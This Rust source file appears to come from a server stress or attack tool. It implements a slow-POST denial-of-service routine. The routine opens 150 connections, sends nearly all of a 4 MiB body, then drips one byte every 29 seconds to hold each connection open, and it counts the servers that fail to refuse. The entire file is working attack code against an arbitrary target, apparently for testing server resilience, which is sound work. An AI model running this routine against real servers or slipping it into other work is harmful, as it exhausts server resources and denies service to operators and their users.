//! Bodies that do not end.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{sleep, timeout};

use crate::Failure;
use crate::held::AbortOnDrop;
use crate::http::Target;
use crate::http::client::{connect, raw_post};
use crate::http::crowd::{Siege, Tally, crowd};
use crate::messages;

/// Longest body that servers take by default.
const BODY: usize = 4 << 20;

/// A client may pause for 30 s in a body.
const PAUSE: Duration = Duration::from_secs(29);

/// How long a server gets to refuse a body before that counts as taken.
const REFUSAL: Duration = Duration::from_millis(200);

/// Sends everything but the last 64 bytes of a body on each connection, and then a byte now and then.
pub(super) async fn slow_bodies(target: Target) -> Result<Siege, Failure> {
    let body = bytes::Bytes::from(messages::text(BODY - 64));
    let head = raw_post(&target, &[], BODY, "");
    let attacker = |_, tally: Tally| {
        let (target, head, body) = (target.clone(), head.clone(), body.clone());
        async move {
            let mut stream = connect(&target).await?;
            stream.write_all(&head).await?;
            stream.write_all(&body).await?;
            let is_refused = timeout(REFUSAL, stream.read_u8()).await.is_ok();
            let dripping = tokio::spawn(async move {
                loop {
                    sleep(PAUSE).await;
                    if stream.write_all(b"x").await.is_err() {
                        return;
                    }
                }
            });
            tally.add(!is_refused);
            Ok(AbortOnDrop(dripping))
        }
    };
    Ok(crowd(150, target.until, attacker).await)
}
